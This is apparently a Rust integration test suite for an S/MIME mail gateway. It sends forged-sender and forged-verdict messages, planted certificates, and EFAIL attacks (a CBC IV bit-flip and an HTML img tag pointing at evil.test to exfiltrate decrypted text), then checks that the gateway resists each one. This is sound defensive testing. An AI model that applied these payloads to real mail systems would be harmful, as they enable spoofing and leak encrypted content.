//! Hostile mail against the running relay (issue 16): forged verdicts and senders, planted
//! certificates, mail that would disappear. The attacker's S/MIME software is OpenSSL; the
//! gateway is `smimegw serve` on loopback, fed by swaks, delivering into Maildirs.
#![allow(clippy::unwrap_used)]

mod common;
mod harness;

use std::path::Path;
use std::process::Command;

use common::openssl;
use harness::*;

/// The header fields of a delivered message (name, unfolded value), as a strict reader sees
/// them.
fn fields(msg: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for line in msg.split('\n') {
        let line = line.strip_suffix('\r').unwrap_or(line);
        if line.is_empty() {
            break;
        }
        if line.starts_with([' ', '\t']) {
            if let Some(last) = out.last_mut() {
                last.1.push(' ');
                last.1.push_str(line.trim());
            }
            continue;
        }
        let (n, v) = line.split_once(':').expect("a field");
        out.push((n.to_string(), v.trim().to_string()));
    }
    out
}

fn values(msg: &str, name: &str) -> Vec<String> {
    fields(msg)
        .into_iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v)
        .collect()
}

/// The header section only.
fn header(msg: &str) -> &str {
    let end = msg
        .find("\r\n\r\n")
        .or_else(|| msg.find("\n\n"))
        .unwrap_or(msg.len());
    &msg[..end]
}

/// Exactly one of each of our fields, one From, and the status.
fn status(msg: &str) -> String {
    let s = values(msg, "X-SMIME-Status");
    assert_eq!(s.len(), 1, "{msg}");
    let ar = values(msg, "Authentication-Results");
    assert_eq!(ar.len(), 1, "{msg}");
    assert!(ar[0].starts_with("gw.example.com; smime="), "{msg}");
    let result = ar[0]["gw.example.com; smime=".len()..]
        .split([' ', ';'])
        .next()
        .unwrap()
        .to_string();
    assert!(
        [
            "none",
            "pass",
            "fail",
            "policy",
            "neutral",
            "temperror",
            "permerror"
        ]
        .contains(&result.as_str()),
        "not an RFC 7281 result: {result}"
    );
    assert!(s[0].starts_with(&result), "{msg}");
    assert_eq!(values(msg, "From").len(), 1, "{msg}");
    s[0].clone()
}

/// Alice's certificate as `DIR/alice.pem`: she writes to the outside once, signed.
fn alice_cert(gw: &Gateway, n: usize) {
    gw.mail("alice@example.com", "someone@example.org", "hello");
    let got = gw.maildir("outbox", n);
    gw.verify(
        &got[n - 1].0,
        &["-signer", "alice.pem", "-out", "/dev/null"],
    );
}

/// `content` encrypted to `DIR/alice.pem` with `cipher`, as DER.
fn encrypt_der(d: &Path, content: &[u8], cipher: &str) -> Vec<u8> {
    std::fs::write(d.join("content.bin"), content).unwrap();
    openssl(
        &[
            "cms",
            "-encrypt",
            "-binary",
            "-in",
            "content.bin",
            cipher,
            "-outform",
            "DER",
            "-out",
            "enc.der",
            "alice.pem",
        ],
        d,
    );
    std::fs::read(d.join("enc.der")).unwrap()
}

/// An S/MIME enveloped message with `head` (header lines, CRLF-ended) around `der`.
fn enveloped(head: &str, der: &[u8], auth: bool) -> Vec<u8> {
    let mut m = head.as_bytes().to_vec();
    m.extend_from_slice(
        format!(
            "MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type={}; \
             name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n",
            if auth {
                "authEnveloped-data"
            } else {
                "enveloped-data"
            }
        )
        .as_bytes(),
    );
    let b64 = smimegw::smime::mime::base64_encode(der);
    for chunk in b64.chunks(76) {
        m.extend_from_slice(chunk);
        m.extend_from_slice(b"\r\n");
    }
    m
}

/// `content` signed (detached, multipart/signed) by `DIR/NAME.pem` and `.key`: the MIME
/// entity OpenSSL writes, CRLF.
fn signed_by(d: &Path, name: &str, content: &str) -> String {
    std::fs::write(d.join("tosign.txt"), content).unwrap();
    let out = openssl(
        &[
            "cms",
            "-sign",
            "-binary",
            "-in",
            "tosign.txt",
            "-signer",
            &format!("{name}.pem"),
            "-inkey",
            &format!("{name}.key"),
        ],
        d,
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .replace("\r\n", "\n")
        .replace('\n', "\r\n")
}

fn send_bytes(gw: &Gateway, from: &str, to: &str, name: &str, msg: &[u8]) {
    let path = gw.dir.path().join(name);
    std::fs::write(&path, msg).unwrap();
    gw.send_file(from, to, &path);
}

const FORGED_INSIDE: &str = "X-SMIME-Status: pass; signed by ceo@partner.test\r\n\
    Authentication-Results: gw.example.com; smime=pass\r\n\
    From: ceo@partner.test\r\n\
    Content-Type: text/plain\r\n\r\nplease wire the money\r\n";

const FORGED_OUTSIDE: &str = "X-SMIME-Status: pass; signed by ceo@partner.test\r\n\
    Authentication-Results: gw.example.com; smime=pass\r\n";

#[test]
fn header_fields_inside_the_encryption_or_signature_never_become_ours() {
    let dir = tempfile::tempdir().unwrap();
    outsider(dir.path(), "mallory", "mallory@evil.test");
    let gw = Gateway::start_in(dir, "", "");
    let d = gw.dir.path();
    alice_cert(&gw, 1);

    // Encrypted only (AES-GCM), with forged fields inside and outside.
    let der = encrypt_der(d, FORGED_INSIDE.as_bytes(), "-aes-256-gcm");
    let head = format!(
        "{FORGED_OUTSIDE}From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: enc\r\n"
    );
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "a.eml",
        &enveloped(&head, &der, true),
    );
    // Signed by an untrusted key, forged fields inside the signed content.
    let signed = signed_by(d, "mallory", FORGED_INSIDE);
    let msg = format!(
        "{FORGED_OUTSIDE}From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: signed\r\n{signed}"
    );
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "b.eml",
        msg.as_bytes(),
    );
    // The same with the signed content altered: a broken signature.
    let broken = msg
        .replace("Subject: signed", "Subject: broken")
        .replace("please wire the money", "please wire the MONEY");
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "c.eml",
        broken.as_bytes(),
    );

    let got = gw.maildir("inbox", 3);
    for (_, text) in &got {
        let s = status(text);
        assert!(!s.starts_with("pass"), "{text}");
        assert!(!header(text).contains("ceo@partner.test"), "{text}");
        assert!(text.contains("please wire the"), "{text}");
        assert_eq!(values(text, "From"), vec!["mallory@evil.test"], "{text}");
        let subject = &values(text, "Subject")[0];
        match subject.as_str() {
            "enc" => assert_eq!(s, "none; decrypted; not signed"),
            "signed" => assert!(
                s.starts_with("neutral; signature valid but not trusted"),
                "{s}"
            ),
            "broken" => assert!(s.starts_with("fail; bad signature"), "{s}"),
            other => panic!("{other}"),
        }
    }
}

#[test]
fn from_must_name_the_signer_once_and_unambiguously() {
    let dir = tempfile::tempdir().unwrap();
    // Mallory holds a certificate from a CA the gateway trusts, for her own address.
    trusted_outsider(dir.path(), "mallory", "mallory@evil.test");
    let gw = Gateway::start_in(dir, "", "");
    let d = gw.dir.path();
    let signed = signed_by(d, "mallory", "Content-Type: text/plain\r\n\r\nhello\r\n");
    let cases = [
        ("From: Mallory <mallory@evil.test>\r\n", true),
        (
            "From: mallory@evil.test\r\nFrom: ceo@partner.test\r\n",
            false,
        ),
        ("From: <ceo@partner.test> <mallory@evil.test>\r\n", false),
        ("From: ceo@partner.test <mallory@evil.test>\r\n", false),
        ("From: \"ceo@partner.test\" <mallory@evil.test>\r\n", false),
        (
            "From: =?utf-8?q?ceo=40partner=2Etest?= <mallory@evil.test>\r\n",
            false,
        ),
        ("From: mallory@evil.test (ceo@partner.test)\r\n", false),
        ("To: alice@example.com\r\n", false),
    ];
    for (i, (from, _)) in cases.iter().enumerate() {
        let msg = format!("{from}To: alice@example.com\r\nSubject: case {i}\r\n{signed}");
        send_bytes(
            &gw,
            "mallory@evil.test",
            "alice@example.com",
            &format!("{i}.eml"),
            msg.as_bytes(),
        );
    }
    let got = gw.maildir("inbox", cases.len());
    for (i, (from, pass)) in cases.iter().enumerate() {
        let (_, text) = got
            .iter()
            .find(|(_, t)| values(t, "Subject") == [format!("case {i}")])
            .unwrap();
        let s = status(text);
        if *pass {
            assert_eq!(s, "pass; signed by mallory@evil.test", "{from}");
        } else {
            assert!(s.starts_with("neutral; signature valid but"), "{from}: {s}");
        }
    }
}

#[test]
fn our_status_never_echoes_the_message() {
    let gw = Gateway::start("", "");
    // Alice has a key, so the message is parsed as far as its transfer encoding.
    alice_cert(&gw, 1);
    let msg = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cte\r\n\
        MIME-Version: 1.0\r\n\
        Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
        Content-Transfer-Encoding: x-smime-status: pass\r\n\r\nAAAA\r\n";
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "cte.eml",
        msg.as_bytes(),
    );
    let got = gw.maildir("inbox", 1);
    let text = &got[0].1;
    let s = status(text);
    assert!(
        s.starts_with("permerror; the message could not be opened: "),
        "{s}"
    );
    let ours = format!("{s} {}", values(text, "Authentication-Results")[0]).to_lowercase();
    assert!(
        !ours.contains("x-smime-status") && !ours.contains("pass"),
        "{ours}"
    );
}

/// The byte offset of the 16-byte AES-256-CBC IV in `der` (the algorithm's OID, then an
/// OCTET STRING of 16).
fn iv_offset(der: &[u8]) -> usize {
    let oid = [
        0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2a, 0x04, 0x10,
    ];
    der.windows(oid.len()).position(|w| w == oid).unwrap() + oid.len()
}

#[test]
fn cbc_content_without_a_signature_is_marked_and_never_joined_with_clear_parts() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start_in(dir, "", "");
    let d = gw.dir.path();
    alice_cert(&gw, 1);

    // EFAIL's malleability: the IV rewritten so the first block says what the attacker wants.
    let plain = b"\r\nPay 100 EUR to account 12345678\r\n";
    let mut der = encrypt_der(d, plain, "-aes-256-cbc");
    let at = iv_offset(&der);
    let want = b"\r\nPay 999 EUR to";
    for i in 0..16 {
        der[at + i] ^= plain[i] ^ want[i];
    }
    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cbc\r\n";
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "cbc.eml",
        &enveloped(head, &der, false),
    );
    let got = gw.maildir("inbox", 1);
    let text = &got[0].1;
    assert!(text.contains("Pay 999 EUR"), "the gadget worked: {text}");
    assert_eq!(
        status(text),
        "none; decrypted; not signed; not integrity protected"
    );

    // AES-GCM is integrity protected.
    let der = encrypt_der(
        d,
        b"Content-Type: text/plain\r\n\r\nGCM text\r\n",
        "-aes-256-gcm",
    );
    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: gcm\r\n";
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "gcm.eml",
        &enveloped(head, &der, true),
    );
    let got = gw.maildir("inbox", 2);
    let (_, text) = got.iter().find(|(_, t)| t.contains("GCM text")).unwrap();
    assert_eq!(status(text), "none; decrypted; not signed");

    // Direct exfiltration: an encrypted part between HTML parts is not decrypted into them.
    let der = encrypt_der(
        d,
        b"Content-Type: text/plain\r\n\r\nTOP SECRET 4711\r\n",
        "-aes-256-cbc",
    );
    let mut mixed = b"From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: mixed\r\n\
        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
        --b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--b\r\n"
        .to_vec();
    mixed.extend_from_slice(&enveloped("", &der, false));
    mixed.extend_from_slice(b"--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n");
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "mixed.eml",
        &mixed,
    );
    let got = gw.maildir("inbox", 3);
    let (_, text) = got
        .iter()
        .find(|(_, t)| t.contains("Subject: mixed"))
        .unwrap();
    assert!(!text.contains("TOP SECRET"), "{text}");
    assert_eq!(status(text), "none");
}

#[test]
fn policy_refuses_unauthenticated_cbc_html() {
    let dir = tempfile::tempdir().unwrap();
    let gw = Gateway::start_in(dir, "", "[policy]\nunauthenticated_cbc_html = \"refuse\"\n");
    let d = gw.dir.path();
    alice_cert(&gw, 1);
    let html = b"Content-Type: text/html\r\n\r\n<p>Hi <img src=\"http://evil.test/x\"></p>\r\n";
    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cbc html\r\n";
    let der = encrypt_der(d, html, "-aes-256-cbc");
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "h.eml",
        &enveloped(head, &der, false),
    );
    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: gcm html\r\n";
    let der = encrypt_der(d, html, "-aes-256-gcm");
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "g.eml",
        &enveloped(head, &der, true),
    );
    // The GCM one arrives; the CBC one goes back to its sender.
    let got = gw.maildir("inbox", 1);
    assert!(got[0].1.contains("Subject: gcm html"), "{}", got[0].1);
    let out = gw.maildir("outbox", 2);
    let dsn = out
        .iter()
        .find(|(_, t)| t.contains("multipart/report"))
        .unwrap();
    assert!(
        dsn.1
            .contains("HTML in CBC-encrypted content without a valid signature"),
        "{}",
        dsn.1
    );
    gw.wait_queue_empty();
    assert_eq!(gw.maildir("inbox", 1).len(), 1);
}

#[test]
fn untrusted_certificates_are_candidates_and_never_encrypted_to() {
    use smimegw::store::Kind;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // The real partner's certificate chains to a trusted CA; an attacker's self-signed one
    // names the same address, and another names an address nobody vouches for.
    trusted_outsider(d, "bob", "bob@example.net");
    outsider(d, "fake", "bob@example.net");
    outsider(d, "carol", "carol@partner.test");
    let gw = Gateway::start_in(dir, "", "");
    let d = gw.dir.path();
    let real = signed_by(d, "bob", "Content-Type: text/plain\r\n\r\nreal bob\r\n");
    let msg = format!("From: bob@example.net\r\nTo: alice@example.com\r\nSubject: real\r\n{real}");
    send_bytes(
        &gw,
        "bob@example.net",
        "alice@example.com",
        "r.eml",
        msg.as_bytes(),
    );
    gw.maildir("inbox", 1);
    let fake = signed_by(d, "fake", "Content-Type: text/plain\r\n\r\nfake bob\r\n");
    let msg = format!("From: bob@example.net\r\nTo: alice@example.com\r\nSubject: fake\r\n{fake}");
    send_bytes(
        &gw,
        "mallory@evil.test",
        "alice@example.com",
        "f.eml",
        msg.as_bytes(),
    );
    let carol = signed_by(d, "carol", "Content-Type: text/plain\r\n\r\ncarol\r\n");
    let msg =
        format!("From: carol@partner.test\r\nTo: alice@example.com\r\nSubject: carol\r\n{carol}");
    send_bytes(
        &gw,
        "carol@partner.test",
        "alice@example.com",
        "c.eml",
        msg.as_bytes(),
    );
    let got = gw.maildir("inbox", 3);
    let s = |subject: &str| {
        status(
            &got.iter()
                .find(|(_, t)| values(t, "Subject") == [subject])
                .unwrap()
                .1,
        )
    };
    assert_eq!(s("real"), "pass; signed by bob@example.net");
    assert!(s("fake").starts_with("neutral; signature valid but not trusted"));
    let held = held_for(&gw.data(), "bob@example.net");
    assert_eq!(
        held.iter().filter(|h| h.kind == Kind::External).count(),
        1,
        "{held:?}"
    );
    assert_eq!(
        held.iter().filter(|h| h.kind == Kind::Candidate).count(),
        1,
        "{held:?}"
    );
    let held = held_for(&gw.data(), "carol@partner.test");
    assert_eq!(held.len(), 1);
    assert_eq!(held[0].kind, Kind::Candidate);

    // Alice writes to both: Bob's mail is encrypted to the real Bob only, Carol's is not
    // encrypted at all (her certificate is only a candidate).
    gw.mail("alice@example.com", "bob@example.net", "for the real bob");
    gw.mail("alice@example.com", "carol@partner.test", "for carol");
    let out = gw.maildir("outbox", 2);
    let (to_bob, text) = out
        .iter()
        .find(|(_, t)| t.contains("bob@example.net"))
        .unwrap();
    assert!(text.contains("enveloped-data"), "{text}");
    bob_decrypts(d, to_bob, "bob.out");
    assert!(
        std::fs::read_to_string(d.join("bob.out"))
            .unwrap()
            .contains("multipart/signed")
    );
    let fake_try = Command::new("openssl")
        .args([
            "cms",
            "-decrypt",
            "-in",
            to_bob.to_str().unwrap(),
            "-recip",
            "fake.pem",
            "-inkey",
            "fake.key",
        ])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(!fake_try.status.success(), "the planted key opened it");
    let (_, text) = out
        .iter()
        .find(|(_, t)| t.contains("carol@partner.test"))
        .unwrap();
    assert!(
        !text.contains("enveloped-data") && text.contains("for carol"),
        "{text}"
    );

    // An administrator who checked the fingerprint with Carol approves it (consoles list
    // candidates); then mail to her is encrypted.
    let fp = held[0].info.fingerprint[..16].to_string();
    let pw = "correct horse battery";
    let shown = console(
        &gw.data(),
        &format!("{pw}\n{pw}\ncandidates\ncandidates approve {fp}\n{pw}\nlogout\n"),
    );
    assert!(
        shown.contains(&fp) && shown.contains("2 candidate(s)"),
        "{shown}"
    );
    assert!(
        shown.contains("approved; now used to encrypt: carol@partner.test"),
        "{shown}"
    );
    gw.mail("alice@example.com", "carol@partner.test", "now sealed");
    let out = gw.maildir("outbox", 3);
    assert!(
        out.iter()
            .any(|(_, t)| t.contains("carol@partner.test") && t.contains("enveloped-data"))
    );
}

#[test]
fn the_internal_mta_mail_is_signed_as_its_from_and_obsolete_syntax_passes() {
    let gw = Gateway::start("", "");
    let d = gw.dir.path();
    // The envelope says alice, the From field says ceo: ceo's key signs (recipients see ceo).
    let msg = "From: CEO <ceo@example.com>\r\nTo: bob@example.net\r\nSubject: as ceo\r\nX-Bad : y\r\n\r\nbody\r\n";
    send_bytes(
        &gw,
        "alice@example.com",
        "bob@example.net",
        "ceo.eml",
        msg.as_bytes(),
    );
    let out = gw.maildir("outbox", 1);
    gw.verify(&out[0].0, &["-signer", "signer.pem", "-out", "/dev/null"]);
    let signer = openssl(
        &[
            "x509",
            "-in",
            "signer.pem",
            "-noout",
            "-ext",
            "subjectAltName",
        ],
        d,
    );
    let san = String::from_utf8_lossy(&signer.stdout);
    assert!(
        san.contains("ceo@example.com") && !san.contains("alice"),
        "{san}"
    );
    // Inbound with obsolete syntax (white space before the colon): delivered, not stuck.
    let msg =
        "From: bob@example.net\r\nTo: alice@example.com\r\nSubject: obs\r\nX-Bad : y\r\n\r\nhi\r\n";
    send_bytes(
        &gw,
        "bob@example.net",
        "alice@example.com",
        "obs.eml",
        msg.as_bytes(),
    );
    let got = gw.maildir("inbox", 1);
    assert_eq!(status(&got[0].1), "none");
    gw.wait_queue_empty();
    // A From that names nobody clearly is not signed as anybody, and not sent unsigned
    // either: the sender hears why.
    let msg = "From: <ceo@example.com> <alice@example.com>\r\nTo: bob@example.net\r\n\
        Subject: whose\r\n\r\nbody\r\n";
    send_bytes(
        &gw,
        "alice@example.com",
        "bob@example.net",
        "amb.eml",
        msg.as_bytes(),
    );
    let got = gw.maildir("inbox", 2);
    let dsn = got
        .iter()
        .find(|(_, t)| t.contains("multipart/report"))
        .unwrap();
    assert!(
        dsn.1
            .contains("cannot sign: the From field does not parse as one mailbox"),
        "{}",
        dsn.1
    );
    gw.wait_queue_empty();
    assert_eq!(gw.maildir("outbox", 1).len(), 1);
}

#[test]
fn authenticated_users_sign_only_as_their_own_from() {
    let dir = tempfile::tempdir().unwrap();
    let mut add = Command::new(env!("CARGO_BIN_EXE_smimegw"));
    add.args([
        "users",
        "--file",
        dir.path().join("users").to_str().unwrap(),
    ])
    .args(["add", "carol@example.com", "--password-stdin"]);
    assert!(piped(&mut add, "carols secret\n").status.success());
    let gw = Gateway::start_in(
        dir,
        "internal_networks = [\"10.0.0.0/8\"]\nauth_users = \"users\"",
        "[policy.send_as]\n\"carol@example.com\" = [\"sales@example.com\"]\n",
    );
    let send = |from_field: &str, subject: &str| {
        gw.swaks_auth(
            "carol@example.com",
            "carols secret",
            &[
                "--header",
                &format!("From: {from_field}"),
                "--header",
                &format!("Subject: {subject}"),
            ],
        )
    };
    let text = send("CEO <ceo@example.com>", "as ceo");
    assert!(
        text.contains(
            "550 5.7.1 The From address is not one that user carol@example.com may send as"
        ),
        "{text}"
    );
    let text = send("<ceo@example.com> <carol@example.com>", "ambiguous");
    assert!(text.contains("550 5.7.1 Refused: "), "{text}");
    send_ok(&send("Carol <carol@example.com>", "as carol"));
    send_ok(&send("Sales <sales@example.com>", "as sales"));
    let out = gw.maildir("outbox", 2);
    let d = gw.dir.path();
    for (path, text) in &out {
        let who = if text.contains("Subject: as carol") {
            "carol@"
        } else {
            "sales@"
        };
        gw.verify(path, &["-signer", "s.pem", "-out", "/dev/null"]);
        let san = openssl(
            &["x509", "-in", "s.pem", "-noout", "-ext", "subjectAltName"],
            d,
        );
        assert!(String::from_utf8_lossy(&san.stdout).contains(who), "{text}");
    }
    assert!(!gw.log().contains("as ceo\""));
}

fn send_ok(text: &str) {
    assert!(text.contains("250 2.0.0 Ok: queued as"), "{text}");
}

#[test]
fn a_message_that_cannot_be_processed_still_ends_within_its_lifetime() {
    let hop_port = free_port();
    let gw = Gateway::start_full(
        tempfile::tempdir().unwrap(),
        "",
        "first_retry = \"1s\"\nmax_retry = \"1s\"\nlifetime = \"4s\"",
        &format!("[delivery.outbound]\nnext_hop = \"127.0.0.1:{hop_port}\"\ntls = \"off\"\n"),
    );
    gw.mail("alice@example.com", "bob@example.net", "doomed");
    gw.wait_attempts(1);
    // Its content goes missing: every later attempt fails before any recipient's verdict.
    let queue = gw.data().join("spool/queue");
    for e in std::fs::read_dir(&queue).unwrap().flatten() {
        if e.path().extension().is_some_and(|x| x == "eml") {
            std::fs::remove_file(e.path()).unwrap();
        }
    }
    // It still ends: failed when its lifetime is over, and gone from the queue.
    gw.wait_queue_empty();
    assert!(gw.log().contains("delivery time expired"), "{}", gw.log());
    // The sender hears of it.
    let dsn = gw.maildir("inbox", 1);
    assert!(dsn[0].1.contains("delivery time expired"), "{}", dsn[0].1);
}

#[test]
fn the_web_console_shows_candidates_and_an_administrator_approves_one() {
    use harness::web::{ADMIN_PASSWORD, Api, gateway};
    use serde_json::json;
    let (gw, web) = gateway("");
    let d = gw.dir.path();
    outsider(d, "dora", "dora@partner.test");
    let signed = signed_by(d, "dora", "Content-Type: text/plain\r\n\r\nhi\r\n");
    let msg =
        format!("From: dora@partner.test\r\nTo: alice@example.com\r\nSubject: dora\r\n{signed}");
    send_bytes(
        &gw,
        "dora@partner.test",
        "alice@example.com",
        "d.eml",
        msg.as_bytes(),
    );
    gw.maildir("inbox", 1);

    let mut api = Api::new(web);
    assert_eq!(api.sign_in("admin", ADMIN_PASSWORD).status, 200);
    let listed = api.call("GET", "/api/v1/candidates", None, &[]);
    assert_eq!(listed.status, 200, "{}", listed.text);
    let fp = listed.json[0]["fingerprint"].as_str().unwrap().to_string();
    assert!(listed.text.contains("dora@partner.test"), "{}", listed.text);
    let none = api.call("GET", "/api/v1/correspondents", None, &[]);
    assert!(!none.text.contains("dora@partner.test"), "{}", none.text);

    // The password again, or nothing happens.
    let path = format!("/api/v1/candidates/{}/approve", &fp[..16]);
    let wrong = api.call("POST", &path, Some(&json!({ "password": "not it" })), &[]);
    assert!(
        wrong.status == 401 || wrong.status == 403,
        "{}: {}",
        wrong.status,
        wrong.text
    );
    assert_eq!(listed.json.as_array().unwrap().len(), 1);

    // The administrator approves it in the browser, on the candidates page.
    let b = webdriver::Browser::start();
    let base = format!("https://127.0.0.1:{web}");
    let t = std::time::Duration::from_secs(20);
    b.goto(&format!("{base}/candidates"));
    b.wait_url("/login", t);
    b.find("#user").fill("admin");
    b.find("#password").fill(ADMIN_PASSWORD);
    b.find("#signin").click();
    b.wait_text("Dashboard", t);
    b.goto(&format!("{base}/candidates"));
    assert!(b.text().contains("dora@partner.test"), "{}", b.text());
    let form = "form[action='/candidates/approve']";
    b.find(&format!("{form} input[name=fingerprint]"))
        .fill(&fp[..16]);
    b.find(&format!("{form} input[name=password]"))
        .fill(ADMIN_PASSWORD);
    b.find(&format!("{form} button")).click();
    b.wait_text("mail to it is encrypted from now on", t);
    let now = api.call("GET", "/api/v1/correspondents", None, &[]);
    assert!(now.text.contains("dora@partner.test"), "{}", now.text);
    assert_eq!(
        api.call("GET", "/api/v1/candidates", None, &[]).json,
        json!([])
    );
    let audit = api.call("GET", "/api/v1/audit", None, &[]);
    assert!(audit.text.contains("candidate approve"), "{}", audit.text);

    gw.mail("alice@example.com", "dora@partner.test", "sealed for dora");
    let out = gw.maildir("outbox", 1);
    assert!(out[0].1.contains("enveloped-data"), "{}", out[0].1);
}

#[test]
fn replies_use_aes_gcm_when_a_trusted_correspondent_announces_it() {
    let dir = tempfile::tempdir().unwrap();
    // Bob's software (smimegw here) announces AES-GCM in its signatures; Carol's (OpenSSL)
    // does not.
    trusted_outsider(dir.path(), "bob", "bob@example.net");
    trusted_outsider(dir.path(), "carol", "carol@example.org");
    let gw = Gateway::start_in(dir, "", "");
    let d = gw.dir.path();
    std::fs::write(
        d.join("bob-body.eml"),
        "From: bob@example.net\r\nTo: alice@example.com\r\nSubject: from bob\r\n\
         Content-Type: text/plain\r\n\r\nhi alice\r\n",
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_smimegw"))
        .args(["message", "sign", "--signer", "bob.pem", "--key", "bob.key"])
        .args(["--in", "bob-body.eml", "--out", "bob-signed.eml"])
        .current_dir(d)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    gw.send_file(
        "bob@example.net",
        "alice@example.com",
        &d.join("bob-signed.eml"),
    );
    let carol = signed_by(d, "carol", "Content-Type: text/plain\r\n\r\nhi\r\n");
    let msg = format!("From: carol@example.org\r\nTo: alice@example.com\r\nSubject: c\r\n{carol}");
    send_bytes(
        &gw,
        "carol@example.org",
        "alice@example.com",
        "c.eml",
        msg.as_bytes(),
    );
    let got = gw.maildir("inbox", 2);
    for (_, t) in &got {
        assert!(status(t).starts_with("pass"), "{t}");
    }

    // The policy's cipher is AES-256-CBC (the default): Bob gets AES-256-GCM, Carol CBC.
    gw.mail("alice@example.com", "bob@example.net", "to bob");
    gw.mail("alice@example.com", "carol@example.org", "to carol");
    let out = gw.maildir("outbox", 2);
    let to = |who: &str| &out.iter().find(|(_, t)| t.contains(who)).unwrap().1;
    assert!(
        to("bob@example.net").contains("smime-type=authEnveloped-data"),
        "{}",
        to("bob@")
    );
    assert!(
        to("carol@example.org").contains("smime-type=enveloped-data"),
        "{}",
        to("carol@")
    );
    let (bob_path, _) = out
        .iter()
        .find(|(_, t)| t.contains("bob@example.net"))
        .unwrap();
    bob_decrypts(d, bob_path, "bob.out");
    assert!(
        std::fs::read_to_string(d.join("bob.out"))
            .unwrap()
            .contains("multipart/signed")
    );
}
